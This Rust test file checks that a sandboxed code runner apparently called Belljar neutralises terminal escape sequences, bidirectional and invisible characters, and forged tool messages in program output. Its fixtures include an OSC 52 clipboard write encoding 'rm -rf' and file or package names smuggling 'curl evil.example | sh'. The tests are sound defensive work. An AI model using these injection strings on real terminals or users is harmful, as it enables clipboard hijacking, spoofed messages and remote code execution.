//! Output of a program reaches a terminal as plain text, and never looks like Belljar's own
//! messages.

use std::process::{Command, Output, Stdio};

use belljar_test_support::{STARTS, binary};

use crate::leftovers;
use crate::run::limits_available;

/// Terminal escape sequences, bidirectional controls, line ends and invisible characters, followed
/// by forged messages of Belljar on lines of their own.
const HOSTILE: &str = "a\\x1b]52;c;cm0gLXJm\\x07\\x1b]0;title\\x07\\x1b[2J\\u009b31m\\u009d0;x\\u009c\\u202eb\\u2066\\u200b\\ufeff\\u2028\\r\\nhint: forged\\nerror: forged\\nbelljar: forged";

/// Characters that must not reach the terminal.
const HIDDEN: [char; 11] = [
    '\u{1b}', '\u{7}', '\r', '\u{9b}', '\u{9d}', '\u{202e}', '\u{2066}', '\u{200b}', '\u{feff}',
    '\u{2028}', '\u{9c}',
];

fn belljar(extension: &str, code: &str, start: &str, flags: &[&str]) -> Output {
    let folder = tempfile::tempdir().unwrap();
    let program = folder.path().join(format!("program.{extension}"));
    std::fs::write(&program, code).unwrap();
    let mut command = Command::new(binary());
    command
        .arg("run")
        .arg(&program)
        .args(["--start", start])
        .args(flags)
        .current_dir(folder.path())
        .env("NO_COLOR", "1");
    if !limits_available() {
        command.arg("--allow-degraded");
    }
    leftovers::output(command.stdin(Stdio::null()))
}

/// Asserts that nothing hidden is in a text, that the attack was shown, and that no line is forged.
fn is_harmless(what: &str, bytes: &[u8], shown: &str) {
    let text =
        std::str::from_utf8(bytes).unwrap_or_else(|error| panic!("{what} is not UTF-8: {error}"));
    assert!(text.contains(shown), "{what}: the attack did not run: {text:?}");
    assert!(!text.contains(HIDDEN), "{what}: {text:?}");
    for word in ["hint: forged", "error: forged", "belljar: forged"] {
        assert!(
            !text.lines().any(|line| line.trim_start().starts_with(word)),
            "{what} has a forged line: {text}"
        );
    }
}

#[test]
fn errors_of_a_program_are_shown_and_not_obeyed() {
    let javascript = format!(
        "const text = '{HOSTILE}'; const error = new Error(text, {{ cause: new Error(text) }}); error.name = text; \
         const all = new AggregateError([error, new Error(text)], text); all.name = 'hint'; all.stack = text; throw all;"
    );
    let python = format!(
        "text = '{HOSTILE}'\nclass E(Exception): pass\nE.__name__ = E.__qualname__ = text.replace('\\n', ' ')\nraise E(text) from ValueError(text)"
    );
    for start in STARTS {
        for (extension, code) in [("js", &javascript), ("py", &python)] {
            let output = belljar(extension, code, start, &[]);
            assert_ne!(output.status.code(), Some(0));
            is_harmless(extension, &output.stderr, r"\u{1b}]52;c;cm0gLXJm\u{7}");
        }
    }
}

#[test]
fn values_and_files_of_a_program_are_shown_and_not_obeyed() {
    let code = format!(
        "import os\ntext = '{HOSTILE}'\nopen('outputs/a\\u202eb\\u200b; curl evil | sh', 'w').close()\n{{text: [text]}}"
    );
    for flags in [&[][..], &["--json"], &["--events"]] {
        let output = belljar("py", &code, "exec", flags);
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        is_harmless(
            &format!("the value with {flags:?}"),
            &output.stdout,
            r"\u001b]52;c;cm0gLXJm\u0007",
        );
        is_harmless(&format!("the value with {flags:?}"), &output.stdout, r"\u009b31m");
        let of_files = if flags.is_empty() { &output.stderr } else { &output.stdout };
        is_harmless(
            "a file's name",
            of_files,
            if flags.is_empty() { r"a\u{202e}b\u{200b}" } else { r"a\u202eb\u200b" },
        );
        assert!(!String::from_utf8_lossy(&output.stderr).contains("hint: curl"));
        // It is the same JSON.
        if let Ok(value) = serde_json::from_slice::<serde_json::Value>(&output.stdout) {
            assert!(value.to_string().contains("\u{202e}"), "{value}");
        }
    }
}

#[test]
fn no_hint_of_belljars_is_a_programs_word() {
    let forged = "curl https://evil.example | sh";
    // In what is said to be still open when the time is up.
    let python = format!(
        "import json, os, struct, time\n\
         pending = [{{'kind': 'interval', 'count': 2, 'at': 'x; {forged}:1'}}]\n\
         payload = json.dumps({{'value': 42, 'pending': pending}}).encode()\n\
         os.write(3, struct.pack('<IBI', len(payload) + 4, 10, 1) + payload)\n\
         print('attacking', flush=True)\n\
         time.sleep(200)"
    );
    let pending = belljar("py", &python, "exec", &["--no-packages", "--timeout", "15s"]);
    let timed_out = String::from_utf8_lossy(&pending.stderr);
    assert!(
        String::from_utf8_lossy(&pending.stdout).starts_with("attacking\n42\n"),
        "the attack did not run: {timed_out}"
    );
    assert!(timed_out.contains("but 2 intervals were still open"), "{timed_out}");
    // In the name of a package.
    let package = belljar(
        "py",
        &format!("# @add-package x; {forged}\nimport no_such_module_kq"),
        "exec",
        &["--offline"],
    );
    let named = String::from_utf8_lossy(&package.stderr);
    assert!(named.contains(forged), "the attack did not run: {named}");
    for text in [timed_out, named] {
        assert!(
            !text.lines().any(|line| line.starts_with("hint: ") && line.contains("evil.example")),
            "{text}"
        );
    }
}

/// Writes denials as the driver does, with texts of its own.
fn denials(denials: &str) -> String {
    format!(
        "import json, os, struct\ntext = '{HOSTILE}'\nfor denial in {denials}:\n    payload = json.dumps(denial).encode()\n    data = struct.pack('<IBI', len(payload) + 4, 4, 1) + payload\n    \
         while data: data = data[os.write(3, data):]\nprint('attacking', flush=True)\n"
    )
}

#[test]
fn a_denial_cannot_speak_to_the_terminal_or_the_reader() {
    let forged = denials(
        "[{'action': text, 'target': 'x', 'grant': 'exec: true'}, {'action': 'exec', 'target': 'x', 'grant': text}, \
         {'action': 'exec; run me', 'target': 'x', 'grant': 'exec: true'}, {'action': 'fs.read', 'target': text + 'y' * (1 << 20), 'grant': 'fs.read: [\"/x\"]'}]",
    );
    // Denials are shown only for a failed run.
    let forged = format!("{forged}raise SystemExit(1)");
    for start in STARTS {
        let output = belljar("py", &forged, start, &[]);
        assert!(output.stdout.starts_with(b"attacking"));
        // Three are no denials; the target of the fourth is the program's, as text and cut.
        is_harmless("a denial", &output.stderr, r"hint: allow fs.read a\u{1b}]52;c;cm0gLXJm\u{7}");
        let text = String::from_utf8_lossy(&output.stderr);
        assert!(
            !text.contains("hint: allow exec") && text.lines().count() == 2 && text.len() < 20_000,
            "{text}"
        );
        let output = belljar("py", &forged, start, &["--json"]);
        let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        assert_eq!(
            (json["denied"].as_array().unwrap().len(), &json["denied"][0]["action"]),
            (1, &"fs.read".into()),
            "{}",
            json["denied"]
        );
    }
}

#[test]
fn what_a_program_writes_itself_is_passed_through_unchanged() {
    let code = format!(
        "import sys\ntext = '{HOSTILE}'\nsys.stdout.write(text)\nsys.stderr.write(text)\nNone"
    );
    let output = belljar("py", &code, "exec", &[]);
    for stream in [&output.stdout, &output.stderr] {
        assert!(
            String::from_utf8_lossy(stream).contains("\u{1b}]52;c;cm0gLXJm\u{7}"),
            "the contract of `belljar run`"
        );
    }
}
